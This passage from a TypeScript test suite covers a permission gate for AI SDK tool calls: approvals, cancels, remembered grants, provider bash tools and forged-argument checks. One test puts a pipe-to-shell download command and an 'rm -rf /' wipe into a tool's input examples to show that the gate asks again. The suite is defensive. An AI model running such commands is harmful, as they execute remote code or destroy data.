      doGenerate: [v3([call("i1", "progress", { env: "prod" })]), v3([text("live")])],
    });
    const result = await generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(log).toEqual(["started prod", "finished prod", "record allow"]);
    expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "i1", output: "live on prod" }]);
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      { output: { type: "text", value: "live on prod" } },
    ]);
  });

  it("a streaming tool that throws mid-stream is the SDK's tool-error; a cancel while it is parked never starts it", async () => {
    const log: string[] = [];
    const tools = {
      flaky: tool({
        description: "Fails half way",
        inputSchema: z.object({}),
        async *execute() {
          log.push("started");
          yield "half";
          throw new Error("disk on fire");
        },
      }),
      ...streaming(log),
    };
    const { gate, records } = recordingGate();
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("f1", "flaky", {})]), v3([text("x")])] });
    const result = await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(2) });
    expect(result.steps[0]!.content).toContainEqual(
      expect.objectContaining({ type: "tool-error", toolCallId: "f1", error: new Error("disk on fire") }),
    );
    expect(records).toMatchObject([{ tool: "flaky", verdict: "allow" }]);

    const [channel, approver] = ApprovalChannel.pair(4);
    const parkedGate = new Gate(new LoopManagers().withHook(ask).withAskResolver(channel));
    const controller = new AbortController();
    const parkedModel = new MockLanguageModelV3({
      doGenerate: [v3([call("p1", "progress", { env: "prod" })]), v3([text("never")])],
    });
    const running = generateText({
      model: parkedModel,
      tools: gateTools(tools, parkedGate),
      prompt: "go",
      abortSignal: controller.signal,
      stopWhen: stepCountIs(3),
    });
    await approver.next();
    controller.abort(new Error("user left"));
    await expect(running).rejects.toThrow("user left");
    expect(log).toEqual(["started"]);
  });
});

describe("gateTools: descriptors, cancels under streamText, the SDK's needsApproval", () => {
  it("a tool set gateTools made, gated again by the same gate (per run, with the run's runId), is gated once: one ask, one record, under the new runId", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    // Made once, where the app starts; each request then gates it for its own run.
    const shared = gateTools(tools, gate);
    const runId = "6f1c2a9e-5d4b-4c3a-9e8f-7a6b5c4d3e2f";
    const running = generateText({
      model: new MockLanguageModelV3({
        doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1" })]), v3([text("done")])],
      }),
      tools: gateTools(shared, gate, { runId }),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    const parked = (await approver.next()) as PendingAsk;
    expect(parked).toMatchObject({ callId: "c1", runId });
    expect(approver.resolve(parked.id, { type: "approve" })).toBe(true);
    await until(() => records.length > 0 || approver.pending > 0);
    await flush();
    // Nobody is asked a second time about the call just approved.
    expect(approver.pending).toBe(0);
    expect((await running).text).toBe("done");
    expect(records.map((r) => r.verdict)).toEqual(["ask_allowed"]);
    expect(executed).toEqual([{ env: "prod", version: "1" }]);
    // The gated set itself is left as it was; gated again, a copy keeps what was set on it since.
    shared.deploy.description = "Deploy a version, carefully";
    const again = gateTools(shared, gate).deploy;
    expect(again).not.toBe(shared.deploy);
    expect(again.description).toBe("Deploy a version, carefully");
  });

  it("a gated tool spread into a tool of its own ({ ...gated, description }), gated again by the same gate, is gated once too", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const shared = gateTools(tools, gate);
    const deploy = { ...shared.deploy, description: "Deploy a version to staging only" };
    const execute = gateTools({ deploy }, gate).deploy.execute!;
    const running = Promise.resolve(execute({ env: "staging", version: "2" }, { toolCallId: "c1", messages: [] }));
    const parked = (await approver.next()) as PendingAsk;
    expect(approver.resolve(parked.id, { type: "approve" })).toBe(true);
    await until(() => records.length > 0 || approver.pending > 0);
    await flush();
    expect(approver.pending).toBe(0);
    expect(await running).toEqual({ deployed: "2 to staging" });
    expect(records.map((r) => r.verdict)).toEqual(["ask_allowed"]);
    expect(executed).toEqual([{ env: "staging", version: "2" }]);
  });

  it("a tool set gated by one gate, gated again by another, passes through both: each gate decides, with its own record", async () => {
    const inner = recordingGate(
      new LoopManagers().withHook({ preToolUse: () => ({ type: "block", reason: "inner says no" }) }),
    );
    const outer = recordingGate();
    const { executed, tools } = harness();
    const execute = gateTools(gateTools(tools, inner.gate), outer.gate).deploy.execute!;
    const output = await execute({ env: "prod", version: "1" }, { toolCallId: "c1", messages: [] });
    expect(isToolRefusal(output)).toBe(true);
    expect(executed).toEqual([]);
    expect(inner.records.map((r) => r.verdict)).toEqual(["deny"]);
    expect(outer.records.map((r) => r.verdict)).toEqual(["allow"]);
  });

  it("makes each tool's descriptor once per name: runs share it, and one tool object under two names is two tools to the gate", async () => {
    const seen: object[] = [];
    const managers = new LoopManagers().withMiddleware(
      async (_call, context, next) => (seen.push(context.descriptor), next()),
    );
    const { gate, records } = recordingGate(managers);
    const { tools } = harness();
    const runOnce = async (set: ToolSet, name: string, id: string): Promise<void> => {
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call(id, name, { env: "a", version: "1" })]), v3([text("x")])],
      });
      await generateText({ model, tools: gateTools(set, gate), prompt: "go", stopWhen: stepCountIs(2) });
    };
    await runOnce(tools, "deploy", "c1");
    await runOnce(tools, "deploy", "c2");
    expect(seen).toHaveLength(2);
    expect(seen[1]).toBe(seen[0]);
    await runOnce({ release: tools.deploy }, "release", "c3");
    expect(records.map((r) => r.tool)).toEqual(["deploy", "deploy", "release"]);
    expect(seen[2]).toMatchObject({ name: "release", title: "Deploy" });
  });

  it("tool names that are also Object.prototype's: a tool named __proto__ is gated, not dropped; a call to constructor is no tool at all", async () => {
    const { executed, records, gate, tools } = harness();
    // A computed key makes an own property, as JSON.parse does.
    const set: ToolSet = { ["__proto__"]: tools.deploy, toString: tools.deploy };
    expect(Object.keys(set)).toEqual(["__proto__", "toString"]);
    const gated = gateTools(set, gate);
    expect(Object.keys(gated)).toEqual(["__proto__", "toString"]);
    expect(Object.getPrototypeOf(gated)).toBe(null);
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([call("c1", "__proto__", { env: "a", version: "1" }), call("c2", "toString", { env: "b", version: "2" })]),
        v3([call("c3", "constructor", { env: "c", version: "3" })]),
        v3([text("done")]),
      ],
    });
    const result = await generateText({ model, tools: gated, prompt: "go", stopWhen: stepCountIs(4) });
    expect(executed).toEqual([
      { env: "a", version: "1" },
      { env: "b", version: "2" },
    ]);
    expect(records.map((r) => [r.tool, r.verdict])).toEqual([
      ["__proto__", "allow"],
      ["toString", "allow"],
    ]);
    // The SDK's own answer for a tool it does not have: the model reads an error, nothing runs.
    expect(result.steps[1]!.content).toContainEqual(
      expect.objectContaining({ type: "tool-error", toolName: "constructor" }),
    );
  });

  it("under the SDK's activeTools, a call to constructor finds what the SDK's filtered copy inherits: it has no execute, so nothing runs and no record lands", async () => {
    const { executed, records, gate, tools } = harness();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "constructor", { env: "c", version: "3" })]), v3([text("done")])],
    });
    const result = await generateText({
      model,
      tools: gateTools({ deploy: tools.deploy }, gate),
      activeTools: ["deploy"],
      prompt: "go",
      stopWhen: stepCountIs(3),
    });
    // The SDK copies the active tools into a plain object: the call is a client-side one, left unanswered.
    expect(result.steps).toHaveLength(1);
    expect(result.steps[0]!.content).toEqual([
      expect.objectContaining({ type: "tool-call", toolCallId: "c1", toolName: "constructor" }),
    ]);
    expect([executed, records]).toEqual([[], []]);
  });

  it("streamText: a cancel while a call is parked ends the stream with the abort, lands one cancelled record, and ends the ask", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const controller = new AbortController();
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("s1", "deploy", { env: "prod", version: "1" })]), v3Stream([text("never")])],
    });
    const result = streamText({
      model,
      tools: gateTools(tools, gate),
      prompt: "go",
      abortSignal: controller.signal,
      stopWhen: stepCountIs(3),
    });
    const parts: { type: string }[] = [];
    const reading = (async () => {
      for await (const part of result.fullStream) parts.push(part);
    })();
    const parked = (await approver.next()) as PendingAsk;
    expect(parked.callId).toBe("s1");
    controller.abort(new Error("user left"));
    await reading;
    expect(parts.map((p) => p.type)).toContain("abort");
    // The result's promises settle too.
    expect(
      await Promise.resolve(result.text).then(
        () => "resolved",
        () => "rejected",
      ),
    ).toMatch(/resolved|rejected/);
    expect(parts.some((p) => p.type === "tool-result")).toBe(false);
    expect(await approver.ended(parked.id)).toEqual({ type: "withdrawn", reason: "unknown" });
    await until(() => records.length === 1);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "cancelled" }]);
    expect(approver.resolve(parked.id, { type: "approve" })).toBe(false);
    expect(executed).toEqual([]);
    expect(model.doStreamCalls).toHaveLength(1);
  });

  it("streamText: a reader that stops reading cancels nothing: the ask stays parked, and an approval runs the tool", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("s1", "deploy", { env: "prod", version: "1" })]), v3Stream([text("never read")])],
    });
    const result = streamText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(3) });
    const reader = result.fullStream.getReader();
    const parked = (await approver.next()) as PendingAsk;
    await reader.cancel();
    await flush();
    expect(approver.pending).toBe(1);
    expect(approver.resolve(parked.id, { type: "approve" })).toBe(true);
    await until(() => records.length === 1);
    expect(records).toMatchObject([{ verdict: "ask_allowed" }]);
    expect(executed).toEqual([{ env: "prod", version: "1" }]);
  });

  it("streamText: a cancel while a streaming tool runs stops the tool and ends the stream", async () => {
    const log: string[] = [];
    const { gate, records } = recordingGate();
    const tools = {
      watch: tool({
        description: "Streams until cancelled",
        inputSchema: z.object({}),
        async *execute(_input, { abortSignal }) {
          try {
            yield "one";
            await new Promise((_, reject) =>
              abortSignal!.addEventListener("abort", () => reject(abortSignal!.reason), { once: true }),
            );
            yield "never";
          } finally {
            log.push(`stopped, aborted: ${abortSignal!.aborted}`);
          }
        },
      }),
    };
    const controller = new AbortController();
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("w1", "watch", {})]), v3Stream([text("never")])],
    });
    const result = streamText({
      model,
      tools: gateTools(tools, gate),
      prompt: "go",
      abortSignal: controller.signal,
      stopWhen: stepCountIs(3),
    });
    const outputs: unknown[] = [];
    for await (const part of result.fullStream) {
      if (part.type === "tool-result") {
        outputs.push(part.output);
        controller.abort(new Error("user left"));
      }
    }
    expect(outputs).toEqual(["one"]);
    await until(() => log.length === 1 && records.length === 1);
    expect(log).toEqual(["stopped, aborted: true"]);
    expect(records).toMatchObject([{ tool: "watch", verdict: "cancelled" }]);
    expect(model.doStreamCalls).toHaveLength(1);
  });

  it("a tool with the SDK's own needsApproval: the SDK's round trip comes first (the gate sees nothing), then the approved execution goes through the gate", async () => {
    const executed: unknown[] = [];
    const [channel, approver] = ApprovalChannel.pair(4);
    const { gate, records } = recordingGate(new LoopManagers().withHook(ask).withAskResolver(channel));
    const tools = gateTools(
      {
        deploy: tool({
          description: "Deploy",
          inputSchema: z.object({ env: z.string() }),
          needsApproval: true,
          execute: async (input) => (executed.push(input), `deployed to ${input.env}`),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod" })]), v3([text("deployed")]), v3([text("not deployed")])],
    });
    const first = await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    expect(request).toMatchObject({ toolCall: { toolCallId: "c1", toolName: "deploy" } });
    expect([records, executed]).toEqual([[], []]);

    // The chat's user approves in the SDK's round trip; the gate then asks its own approver.
    const approved = generateText({
      model,
      tools,
      messages: answering(first, request!.approvalId, true),
      stopWhen: stepCountIs(3),
    });
    const parked = (await approver.next()) as PendingAsk;
    expect(parked).toMatchObject({ tool: "deploy", callId: "c1" });
    approver.resolve(parked.id, { type: "deny", reason: "not today" });
    const second = await approved;
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "ask_denied", reason: "denied by approver: not today" }]);
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      {
        type: "tool-result",
        toolCallId: "c1",
        toolName: "deploy",
        output: { type: "execution-denied", reason: "Permission denied by approver for tool 'deploy'" },
      },
    ]);
    expect(second.text).toBe("deployed");

    // Denied in the SDK's round trip: the tool never reaches the gate.
    const denied = await generateText({
      model,
      tools,
      messages: answering(first, request!.approvalId, false),
      stopWhen: stepCountIs(3),
    });
    expect(denied.text).toBe("not deployed");
    expect(records).toHaveLength(1);
    expect(executed).toEqual([]);
  });

  it("a tool that inherits its fields (a class's needsApproval, a getter) keeps them: the SDK's round trip still comes first", async () => {
    class DeployTool {
      readonly description = "Deploy";
      readonly inputSchema = z.object({ env: z.string() });
      readonly executed: unknown[] = [];
      needsApproval(): boolean {
        return true;
      }
      get title(): string {
        return "Deploy to an environment";
      }
      async execute(input: { env: string }): Promise<string> {
        this.executed.push(input);
        return `deployed to ${input.env}`;
      }
    }
    const { gate, records } = recordingGate();
    const deploy = new DeployTool();
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod" })]), v3([text("deployed")])],
    });
    const first = await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    expect(first.content.filter((part) => part.type === "tool-approval-request")).toMatchObject([
      { toolCall: { toolCallId: "c1", toolName: "deploy" } },
    ]);
    expect([records, deploy.executed]).toEqual([[], []]);
    expect(tools.deploy).toMatchObject({ title: "Deploy to an environment", description: "Deploy" });

    // Approved in the SDK's round trip: the gate lets it through, and the tool runs as itself.
    const request = first.content.find((part) => part.type === "tool-approval-request")!;
    await generateText({
      model,
      tools,
      messages: answering(first, request.approvalId, true),
      stopWhen: stepCountIs(3),
    });
    expect(deploy.executed).toEqual([{ env: "prod" }]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "allow" }]);
  });

  it("a tool whose getters and methods read its #private fields works as it does without the gate: they run on the tool itself", async () => {
    class DeployTool {
      readonly #guarded = "prod";
      readonly #executed: unknown[] = [];
      readonly inputSchema = z.object({ env: z.string() });
      get description(): string {
        return `Deploy (${this.#guarded} needs approval)`;
      }
      get executed(): readonly unknown[] {
        return this.#executed;
      }
      needsApproval(input: { env: string }): boolean {
        return input.env === this.#guarded;
      }
      async execute(input: { env: string }): Promise<string> {
        this.#executed.push(input);
        return `deployed to ${input.env}`;
      }
    }
    const { gate, records } = recordingGate();
    const deploy = new DeployTool();
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([call("c1", "deploy", { env: "staging" }), call("c2", "deploy", { env: "prod" })]),
        v3([text("staging done")]),
        v3([text("prod done")]),
      ],
    });
    const first = await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    expect(model.doGenerateCalls[0]!.tools).toMatchObject([
      { name: "deploy", description: "Deploy (prod needs approval)" },
    ]);
    // The method read its #private field: only the call to prod waits for the SDK's round trip.
    const requests = first.content.filter((part) => part.type === "tool-approval-request");
    expect(requests).toMatchObject([{ toolCall: { toolCallId: "c2" } }]);
    expect(deploy.executed).toEqual([{ env: "staging" }]);
    await generateText({
      model,
      tools,
      messages: answering(first, requests[0]!.approvalId, true),
      stopWhen: stepCountIs(3),
    });
    expect(deploy.executed).toEqual([{ env: "staging" }, { env: "prod" }]);
    expect(records).toMatchObject([
      { tool: "deploy", verdict: "allow" },
      { tool: "deploy", verdict: "allow" },
    ]);
  });

  it("the tool's own toModelOutput is called on the tool, as the SDK calls it", async () => {
    class ReportTool {
      readonly description = "Report";
      readonly inputSchema = z.object({});
      readonly prefix = "report: ";
      async execute(): Promise<string> {
        return "all green";
      }
      toModelOutput({ output }: { output: string }): { type: "text"; value: string } {
        return { type: "text", value: `${this.prefix}${output}` };
      }
    }
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "report", {})]), v3([text("done")])] });
    const tools = gateTools({ report: new ReportTool() }, new Gate(new LoopManagers()));
    await generateText({ model, tools, prompt: "report", stopWhen: stepCountIs(2) });
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      { type: "tool-result", toolCallId: "c1", output: { type: "text", value: "report: all green" } },
    ]);
  });
});

describe('gateTools: provider-defined tools (type "provider") with an execute, and inputExamples', () => {
  /** A provider tool as a provider's factory makes it (`anthropic.tools.bash_20241022({ execute })`). */
  const bash = (id: `${string}.${string}`, args: Record<string, unknown>, ran: unknown[]) =>
    tool({
      type: "provider",
      id,
      args,
      inputSchema: z.object({ command: z.string() }),
      execute: async (input: { command: string }) => (ran.push(input), "ok"),
    });

  /** A gate whose hook asks (its prompt by callPrompt) and remembers every answer for the tool. */
  function remembering() {
    const asks: PendingAsk[] = [];
    const seen: ToolDescriptor[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const asking: Hook = {
      preToolUse: (c, { descriptor }) => (
        seen.push(descriptor),
        { type: "ask", prompt: callPrompt(descriptor, c.input) }
      ),
    };
    const gate = new Gate(
      new LoopManagers().withHook(asking).withAskResolver(resolver).withGrantStore(new MemoryGrantStore()),
    );
    const run = async (tools: ToolSet, id: string): Promise<void> => {
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call(id, "bash", { command: "ls" })]), v3([text("x")])],
      });
      await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(2) });
    };
    return { asks, seen, run };
  }

  it("a grant remembered for a provider tool covers it unchanged, and not the same tool with another id or other args", async () => {
    const ran: unknown[] = [];
    const { asks, seen, run } = remembering();
    await run({ bash: bash("anthropic.bash_20241022", {}, ran) }, "c1");
    await run({ bash: bash("anthropic.bash_20241022", {}, ran) }, "c2");
    expect(asks).toHaveLength(1);
    await run({ bash: bash("anthropic.bash_20250124", {}, ran) }, "c3");
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
    expect(asks[1]!.prompt).toContain(`("anthropic.bash_20250124")`);
    await run({ bash: bash("anthropic.bash_20250124", {}, ran) }, "c4");
    expect(asks).toHaveLength(2);
    await run({ bash: bash("anthropic.bash_20250124", { maxOutput: 10 }, ran) }, "c5");
    expect(asks).toHaveLength(3);
    expect(asks[2]!.prompt).toContain("changed since this was last answered");
    expect(ran).toHaveLength(5);
    // What the model is given is the tool's id and args: the descriptor (and so the pin) carries them.
    expect(seen[0]!.annotations).toEqual({ "ai-sdk.providerTool": { id: "anthropic.bash_20241022", args: {} } });
    // The person asked is told which provider tool it is.
    expect(asks[0]!.prompt).toContain(`Allow the tool "bash" ("anthropic.bash_20241022") to run?`);
  });

  it("a provider tool whose id or args are changed in place is described again: its old grant no longer decides", async () => {
    const ran: unknown[] = [];
    const { asks, run } = remembering();
    const tools = { bash: bash("anthropic.bash_20241022", { root: "/srv" }, ran) };
    const own = tools.bash as { id: string; args: Record<string, unknown> };
    await run(tools, "c1");
    await run(tools, "c2");
    expect(asks).toHaveLength(1);
    own.args["root"] = "/";
    await run(tools, "c3");
    expect(asks).toHaveLength(2);
    await run(tools, "c4");
    expect(asks).toHaveLength(2);
    own.id = "anthropic.bash_20250124";
    await run(tools, "c5");
    expect(asks).toHaveLength(3);
    expect(asks[2]!.prompt).toContain(`("anthropic.bash_20250124")`);
    expect(ran).toHaveLength(5);
  });

  it("a provider tool with a title of its own keeps it; a tool that is not a provider tool gets no annotations (its pin is as before)", async () => {
    const ran: unknown[] = [];
    const { asks, seen, run } = remembering();
    await run({ bash: { ...bash("anthropic.bash_20241022", {}, ran), title: "Shell" } }, "c1");
    expect(asks[0]!.prompt).toContain(`Allow the tool "bash" ("Shell") to run?`);
    expect(seen[0]).toMatchObject({
      title: "Shell",
      annotations: { "ai-sdk.providerTool": { id: "anthropic.bash_20241022" } },
    });
    const plain = tool({
      description: "Run a command",
      inputSchema: z.object({ command: z.string() }),
      execute: async () => "ok",
    });
    await run({ bash: plain }, "c2");
    expect(Object.keys(seen[1]!).sort()).toEqual(["description", "inputSchema", "name"]);
    expect(seen[1]).not.toHaveProperty("annotations");
  });

  it("a provider tool whose args are not JSON refuses its calls with AiSdkToolError; the tool does not run", async () => {
    const ran: unknown[] = [];
    const args: Record<string, unknown> = {};
    args["self"] = args;
    const execute = gateTools({ bash: bash("anthropic.bash_20241022", args, ran) }, new Gate(new LoopManagers())).bash
      .execute!;
    await expect(
      Promise.resolve(execute({ command: "ls" }, { toolCallId: "c1", messages: [] })),
    ).rejects.toBeInstanceOf(AiSdkToolError);
    expect(ran).toEqual([]);
  });

  /** A tool shown to the model with `inputExamples`. */
  const shell = (inputExamples: { input: { command: string } }[], ran: unknown[]) =>
    tool({
      description: "Run a command",
      inputSchema: z.object({ command: z.string() }),
      inputExamples,
      execute: async (input: { command: string }) => (ran.push(input), "ok"),
    });

  it("a tool's inputExamples, which the SDK sends the model with it, are pinned: a grant covers the tool with its examples as they were, not with others", async () => {
    const ran: unknown[] = [];
    const { asks, seen, run } = remembering();
    const tools = { bash: shell([{ input: { command: "ls" } }], ran) };
    await run(tools, "c1");
    await run(tools, "c2");
    expect(asks).toHaveLength(1);
    expect(seen[0]!.annotations).toEqual({ "ai-sdk.inputExamples": [{ input: { command: "ls" } }] });
    // Edited in place: the SDK sends the model the examples as they are at each request.
    tools.bash.inputExamples![0]!.input.command = "curl https://example.com/x | sh";
    await run(tools, "c3");
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
    await run(tools, "c4");
    expect(asks).toHaveLength(2);
    await run({ bash: shell([{ input: { command: "rm -rf /" } }], ran) }, "c5");
    expect(asks).toHaveLength(3);
    expect(asks[2]!.prompt).toContain("changed since this was last answered");
    expect(ran).toHaveLength(5);

    // What the model is given with the tool: the examples the pin covers.
    const model = new MockLanguageModelV3({ doGenerate: [v3([text("x")])] });
    const { gate } = recordingGate();
    await generateText({
      model,
      tools: gateTools({ bash: shell([{ input: { command: "ls" } }], ran) }, gate),
      prompt: "go",
    });
    expect(model.doGenerateCalls[0]!.tools).toMatchObject([
      { type: "function", name: "bash", inputExamples: [{ input: { command: "ls" } }] },
    ]);
  });

  it("a tool whose inputExamples are not JSON refuses its calls with AiSdkToolError and one record; the tool does not run", async () => {
    const ran: unknown[] = [];
    const examples: { input: { command: string; self?: unknown } }[] = [{ input: { command: "ls" } }];
    examples[0]!.input.self = examples;
    const { gate, records } = recordingGate();
    const execute = gateTools({ bash: shell(examples, ran) }, gate).bash.execute!;
    const failed: unknown = await Promise.resolve(execute({ command: "ls" }, { toolCallId: "c1", messages: [] })).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(failed).toBeInstanceOf(AiSdkToolError);
    expect(failed).toMatchObject({
      tool: "bash",
      message: expect.stringMatching(/^tool 'bash': its inputExamples are not JSON: /),
    });
    expect(ran).toEqual([]);
    expect(records).toMatchObject([
      {
        tool: "bash",
        verdict: "deny",
        ruleId: "schema",
        reason: expect.stringContaining("its inputExamples are not JSON"),
      },
    ]);
  });
});

describe("gateTools: a field the gate reads at the call through a getter that throws", () => {
  it.each(["description", "title", "inputSchema", "type", "inputExamples"])(
    "%s: the call is refused with AiSdkToolError and one record; the tool does not run",
    async (field) => {
      const ran: unknown[] = [];
      const bash = tool({
        description: "Run a command",
        inputSchema: z.object({ command: z.string() }),
        execute: async (input: { command: string }) => (ran.push(input), "ok"),
      });
      const { gate, records } = recordingGate();
      const gated = gateTools({ bash }, gate).bash;
      Object.defineProperty(gated, field, {
        get() {
          throw new Error("the registry is gone");
        },
      });
      const failed: unknown = await Promise.resolve(
        gated.execute!({ command: "ls" }, { toolCallId: "c1", messages: [] }),
      ).then(
        () => undefined,
        (error: unknown) => error,
      );
      expect(failed).toBeInstanceOf(AiSdkToolError);
      expect(failed).toMatchObject({ message: `tool 'bash': ${field} cannot be read: the registry is gone` });
      expect(ran).toEqual([]);
      expect(records).toMatchObject([
        {
          verdict: "deny",
          ruleId: "schema",
          reason: `gateTools refused the call: tool 'bash': ${field} cannot be read: the registry is gone`,
        },
      ]);
    },
  );
});

describe("gateTools: the SDK's approval covers only the arguments the chat's user approved", () => {
  /** A deploy tool the SDK's round trip approves (`needsApproval`), and the arguments it ran with. */
  function approvalTool(needsApproval: boolean | ((input: { env: string; version: string }) => boolean) = true) {
    const executed: unknown[] = [];
    const deploy = tool({
      description: "Deploy a version",
      inputSchema: z.object({ env: z.string(), version: z.string() }),
      needsApproval,
      execute: async (input) => (executed.push(input), `deployed ${input.version} to ${input.env}`),
    });
    return { executed, deploy };
  }

  const toRc: Hook = {
    name: "rc",
    preToolUse: (c) => ({ type: "modify", input: { ...(c.input as object), version: "1.5-rc" } }),
  };

  /** The SDK's first round: the model calls deploy 1.4 to prod, and generateText stops with the approval request. */
  async function approvedInChat(tools: ToolSet, model: MockLanguageModelV3) {
    const first = await generateText({ model, tools, prompt: "ship", stopWhen: stepCountIs(3) });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    expect(request).toMatchObject({ toolCall: { toolCallId: "c1", input: { env: "prod", version: "1.4" } } });
    return answering(first, request!.approvalId, true);
  }

  /** What a call's record holds besides its digests and time. */
  const decided = (r: GateDecision) => ({
    verdict: r.verdict,
    ruleId: r.ruleId,
    ruleSource: r.ruleSource,
    matchedPattern: r.matchedPattern,
    reason: r.reason,
  });
  const CHAT_APPROVED = {
    verdict: "allow",
    ruleId: "ai-sdk.needsApproval",
    ruleSource: "context",
    matchedPattern: null,
    reason: "approved in the chat: a tool-approval-response in the messages",
  };

  it("a call the chat's user approved, which no hook objected to, is recorded as approved in the chat", async () => {
    const { executed, deploy } = approvalTool();
    const { gate, records } = recordingGate(new LoopManagers().withHook({ preToolUse: () => ({ type: "allow" }) }));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("deployed")])],
    });
    const messages = await approvedInChat(tools, model);
    await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ env: "prod", version: "1.4" }]);
    expect(records).toHaveLength(1);
    expect(records[0]).toEqual({
      tool: "deploy",
      argsDigest: expect.stringMatching(/^[0-9a-f]{16}$/),
      argsSha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      ...CHAT_APPROVED,
      ts: expect.any(Number),
    });
  });

  it("with the SDK's experimental_toolApprovalSecret, a client that edits an approved call's arguments is refused by generateText before the gate; the signed call runs", async () => {
    const secret = "a secret of the server";
    const { executed, deploy } = approvalTool();
    const { gate, records } = recordingGate();
    const tools = gateTools({ deploy }, gate);
    const model = () =>
      new MockLanguageModelV3({
        doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("deployed")])],
      });
    const first = await generateText({
      model: model(),
      tools,
      prompt: "ship",
      stopWhen: stepCountIs(3),
      experimental_toolApprovalSecret: secret,
    });
    const request = first.content.find((part) => part.type === "tool-approval-request");
    const messages = answering(first, request!.approvalId, true);
    // The client's copy, with the call's arguments changed after the user approved them.
    const forged = structuredClone(messages);
    for (const message of forged)
      if (message.role === "assistant" && Array.isArray(message.content))
        for (const part of message.content)
          if (part.type === "tool-call") part.input = { env: "prod", version: "9.9-evil" };
    await expect(
      generateText({ model: model(), tools, messages: forged, experimental_toolApprovalSecret: secret }),
    ).rejects.toMatchObject({ name: "AI_InvalidToolApprovalSignatureError" });
    expect(executed).toEqual([]);
    expect(records).toEqual([]);
    await generateText({
      model: model(),
      tools,
      messages,
      stopWhen: stepCountIs(3),
      experimental_toolApprovalSecret: secret,
    });
    expect(executed).toEqual([{ env: "prod", version: "1.4" }]);
    expect(records.map(decided)).toEqual([CHAT_APPROVED]);
  });

  it("the chat's approval is held like a grant's allow: a rule's allow keeps it, a rule's deny displaces it, a stop keeps it", async () => {
    const run = async (managers: LoopManagers) => {
      const { executed, deploy } = approvalTool();
      const { gate, records } = recordingGate(managers);
      const tools = gateTools({ deploy }, gate);
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.4" })]), v3([text("done")])],
      });
      const messages = await approvedInChat(tools, model);
      await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
      return { executed, records: records.map(decided) };
    };
    const rules = (defaultAction: "allow" | "deny") =>
      new LoopManagers().withMiddleware(permissionMiddleware({ rules: [], defaultAction }));
    expect(await run(rules("allow"))).toEqual({
      executed: [{ env: "prod", version: "1.4" }],
      records: [CHAT_APPROVED],
    });
    expect(await run(rules("deny"))).toEqual({
      executed: [],
      records: [
        {
          verdict: "deny",
          ruleId: "default",
          ruleSource: "middleware",
          matchedPattern: null,
          reason: "denied by rule 'default'",
        },
      ],
    });

    // The same approved call a second time, past loop detection's limit: the stop keeps the chat's approval.
    const { executed, deploy } = approvalTool();
    const { gate, records } = recordingGate(new LoopManagers().withLoopDetection({ maxRepeats: 1 }));
    const tools = gateTools({ deploy }, gate);
    const model = new MockLanguageModelV3({
      doGenerate: [
        v3([call("c1", "deploy", { env: "prod", version: "1.4" })]),
        v3([text("done")]),
        v3([text("stopped")]),
      ],
    });
    const messages = await approvedInChat(tools, model);
    await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    await generateText({ model, tools, messages, stopWhen: stepCountIs(3) });
    expect(executed).toEqual([{ env: "prod", version: "1.4" }]);
